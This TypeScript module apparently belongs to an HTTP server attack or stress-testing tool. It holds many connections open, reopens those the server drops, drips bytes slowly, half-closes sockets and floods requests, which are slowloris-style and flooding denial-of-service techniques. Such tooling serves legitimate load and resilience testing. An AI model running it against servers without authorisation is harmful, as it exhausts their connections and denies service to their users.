import type { Socket } from 'node:net'
import type { Fight } from './attack.ts'
import type { AttackContext } from './attack-context.ts'
import { open } from './connections.ts'
import { AnswerReader } from './report/answers.ts'

export interface Hold {
  connections: number
  /** What connection number n sends first. */
  opening(n: number): Buffer | undefined
  /** Sent once a second from then on. */
  drip?(n: number): Buffer
  /** Sent whenever there is room for it: requests without end. */
  more?(n: number): Buffer
  /** Bytes a second, 0 for none; all that come, where nothing is said. */
  reads?: number
  /** Says that nothing more will be sent, and waits on. */
  isHalfClosed?: true
}

/** New connections at a time: more at once overflow the server's backlog, which tests only the kernel. */
const WAVE = 50
const WAVE_EVERY_MS = 12
const AGAIN_MS = 1_000
/**
 * Servers ignore empty lines between requests (RFC 9112, 2.2); the sender learns from them whether the connection is
 * alive.
 */
const PROBE = Buffer.from('\r\n')
const PROBE_EVERY = 3

/** Keeps so many connections for as long as the fight lasts, and opens each again that the server ends. */
export async function hold(context: AttackContext, fight: Fight, plan: Hold): Promise<void> {
  const waiting = Array.from({ length: plan.connections }, (_, n) => n)
  const open = new Map<number, Socket>()
  const lose = (n: number) => {
    open.delete(n)
    setTimeout(() => waiting.push(n), AGAIN_MS)
  }
  const waves = setInterval(() => {
    for (const n of waiting.splice(0, WAVE)) open.set(n, take(context, fight, plan, n, lose))
  }, WAVE_EVERY_MS)
  let seconds = 0
  const beats = setInterval(() => {
    const isProbe = ++seconds % PROBE_EVERY === 0
    for (const [n, socket] of open) beat(plan, n, socket, isProbe)
  }, 1_000)
  await fight.over
  clearInterval(waves)
  clearInterval(beats)
  fight.tally.count('held', open.size)
}

function beat({ drip, reads, more, isHalfClosed }: Hold, n: number, socket: Socket, isProbe: boolean): void {
  if (socket.connecting || isHalfClosed) return
  if (drip) socket.write(drip(n))
  else if (isProbe && reads !== undefined && !more) socket.write(PROBE)
}

function take(context: AttackContext, fight: Fight, plan: Hold, n: number, lose: (n: number) => void): Socket {
  const { tally } = fight
  const { reads, more } = plan
  let isConnected = false
  let answered = 0
  const head = (status: number) => {
    answered++
    tally.count(status)
  }
  const socket = open(context, reads === undefined ? undefined : { reads, status: head })
  const reader = new AnswerReader({ head, end() {} })
  if (reads === undefined) socket.on('data', bytes => reader.take(bytes))
  socket.on('connect', () => {
    isConnected = true
    const opening = plan.opening(n)
    if (opening) {
      tally.sent++
      socket.write(opening)
    }
    if (plan.isHalfClosed) socket.end()
    if (more) pour(fight, socket, () => more(n))
  })
  socket.on('error', () => {})
  socket.on('close', () => {
    if (fight.isOver()) return
    if (answered === 0) tally.count(isConnected ? 'closed' : 'no connection')
    lose(n)
  })
  return socket
}

/** Requests without end, as long as there is room for them. */
function pour({ tally, isOver }: Fight, socket: Socket, next: () => Buffer): void {
  const fill = () => {
    do tally.sent++
    while (socket.write(next()) && !isOver() && !socket.destroyed)
  }
  socket.on('drain', fill)
  fill()
}
